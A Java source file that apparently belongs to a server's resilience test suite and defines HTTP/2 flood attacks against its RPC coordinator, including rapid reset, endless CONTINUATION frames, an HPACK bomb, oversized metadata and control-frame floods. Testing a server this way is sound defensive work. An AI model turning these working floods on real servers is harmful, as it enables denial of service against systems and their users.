package org.osprey.coordinator.rpc;

import static org.osprey.coordinator.rpc.RawHttp2.CONTINUATION;
import static org.osprey.coordinator.rpc.RawHttp2.DATA;
import static org.osprey.coordinator.rpc.RawHttp2.END_HEADERS;
import static org.osprey.coordinator.rpc.RawHttp2.END_STREAM;
import static org.osprey.coordinator.rpc.RawHttp2.HEADERS;
import static org.osprey.coordinator.rpc.RawHttp2.NONE;
import static org.osprey.coordinator.rpc.RawHttp2.PING;
import static org.osprey.coordinator.rpc.RawHttp2.PRIORITY;
import static org.osprey.coordinator.rpc.RawHttp2.RST_STREAM;
import static org.osprey.coordinator.rpc.RawHttp2.SETTINGS;
import static org.osprey.coordinator.rpc.RawHttp2.WINDOW_UPDATE;
import static org.osprey.coordinator.rpc.RawHttp2.callHeaders;
import static org.osprey.coordinator.rpc.RawHttp2.int32;
import static org.osprey.coordinator.rpc.RawHttp2.literal;
import static org.osprey.coordinator.rpc.RawHttp2.message;
import static org.osprey.coordinator.rpc.RawHttp2.string;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.List;

/** The floods of rows R28 and R29. */
public final class Attacks {
  private static final int CANCEL = 8;
  private static final int UNKNOWN = 0x7f;

  /** Of a stream that is open when the flood begins. */
  private static final int OPEN = 1;

  private Attacks() {}

  public static List<Attack> all() {
    return List.of(
        flood("R28", "rapid reset", Attacks::rapidReset),
        flood("R28", "bait: zero window update", (c, p, turn) -> bait(c, p, turn, 0)),
        flood("R28", "bait: window overflow", (c, p, turn) -> bait(c, p, turn, Integer.MAX_VALUE)),
        flood("R28", "bait: data after the end", Attacks::dataAfterTheEnd),
        flood("R28", "bait: second headers", Attacks::secondHeaders),
        flood("R28", "too many streams", (c, p, turn) -> c.call(stream(turn), p)),
        onOpen("R29", "continuation", (c, p, turn) -> endless(c, p, turn, new byte[128])),
        onOpen("R29", "empty continuation", (c, p, turn) -> endless(c, p, turn)),
        flood("R29", "1 MB metadata", Attacks::largeMetadata),
        flood("R29", "HPACK bomb", Attacks::hpackBomb),
        onOpen("R29", "ping", (c, p, turn) -> c.frame(PING, NONE, 0, new byte[8])),
        onOpen("R29", "ping answers", (c, p, turn) -> c.frame(PING, 1, 0, new byte[8])),
        onOpen("R29", "settings", (c, p, turn) -> c.frame(SETTINGS, NONE, 0)),
        onOpen("R29", "settings answers", (c, p, turn) -> c.frame(SETTINGS, 1, 0)),
        onOpen("R29", "window update", (c, p, turn) -> c.frame(WINDOW_UPDATE, NONE, 0, int32(1))),
        onOpen("R29", "priority", (c, p, turn) -> c.frame(PRIORITY, NONE, OPEN, new byte[5])),
        onOpen("R29", "unknown frames", (c, p, turn) -> c.frame(UNKNOWN, NONE, 0)),
        onOpen("R29", "empty data", (c, p, turn) -> c.frame(DATA, NONE, OPEN)),
        onEnded("R29", "empty data after the end", (c, p, turn) -> c.frame(DATA, NONE, OPEN)),
        onEnded(
            "R29", "small data after the end", (c, p, t) -> c.frame(DATA, NONE, OPEN, (byte) 0)),
        onEnded("R29", "resets after the end", Attacks::resetOfOpen));
  }

  private static Attack flood(String row, String name, Attack.Flood flood) {
    return new Attack(row, name, (client, path) -> client.begin(), flood);
  }

  private static Attack onOpen(String row, String name, Attack.Flood flood) {
    return new Attack(row, name, (client, path) -> client.begin().call(OPEN, path), flood);
  }

  /** The call is of no use to the server, so that it ends at once. */
  private static Attack onEnded(String row, String name, Attack.Flood flood) {
    return new Attack(
        row,
        name,
        (client, path) ->
            client.begin().call(OPEN, path).frame(DATA, END_STREAM, OPEN, message(9, 0)),
        flood);
  }

  /** Leaves {@link #OPEN} alone. */
  private static int stream(int turn) {
    return (2 * turn + 3) & Integer.MAX_VALUE;
  }

  private static void rapidReset(RawHttp2 client, String path, int turn) throws IOException {
    client.call(stream(turn), path);
    client.frame(RST_STREAM, NONE, stream(turn), int32(CANCEL));
  }

  /** Has the server reset each stream: what it does for the call goes on behind its back. */
  private static void bait(RawHttp2 client, String path, int turn, int increment)
      throws IOException {
    client.call(stream(turn), path);
    client.frame(WINDOW_UPDATE, NONE, stream(turn), int32(increment));
  }

  private static void dataAfterTheEnd(RawHttp2 client, String path, int turn) throws IOException {
    endedCall(client, path, turn);
    client.frame(DATA, NONE, stream(turn), (byte) 0);
  }

  private static void secondHeaders(RawHttp2 client, String path, int turn) throws IOException {
    endedCall(client, path, turn);
    client.call(stream(turn), path);
  }

  private static void endedCall(RawHttp2 client, String path, int turn) throws IOException {
    client.frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), callHeaders(path));
  }

  private static void endless(RawHttp2 client, String path, int turn, byte... block)
      throws IOException {
    if (turn == 0) {
      client.frame(HEADERS, NONE, stream(0), callHeaders(path));
    }
    client.frame(CONTINUATION, NONE, stream(0), block);
  }

  private static void largeMetadata(RawHttp2 client, String path, int turn) throws IOException {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(callHeaders(path));
    literal(block, "x", "x".repeat(1 << 20));
    blocks(client, turn, block.toByteArray());
  }

  /** A header of 4,000 bytes, remembered once and then named with one byte each time. */
  private static void hpackBomb(RawHttp2 client, String path, int turn) throws IOException {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(callHeaders(path));
    block.write(0x40);
    string(block, "x");
    string(block, "x".repeat(4_000));
    for (int i = 0; i < 16_000; i++) {
      block.write(0x80 | 62);
    }
    blocks(client, turn, block.toByteArray());
  }

  private static void blocks(RawHttp2 client, int turn, byte[] block) throws IOException {
    int most = 1 << 14;
    client.frame(HEADERS, NONE, stream(turn), Arrays.copyOf(block, most));
    for (int from = most; from < block.length; from += most) {
      boolean last = from + most >= block.length;
      byte[] part = Arrays.copyOfRange(block, from, Math.min(block.length, from + most));
      client.frame(CONTINUATION, last ? END_HEADERS : NONE, stream(turn), part);
    }
  }

  private static void resetOfOpen(RawHttp2 client, String path, int turn) throws IOException {
    client.frame(RST_STREAM, NONE, OPEN, int32(CANCEL));
  }
}
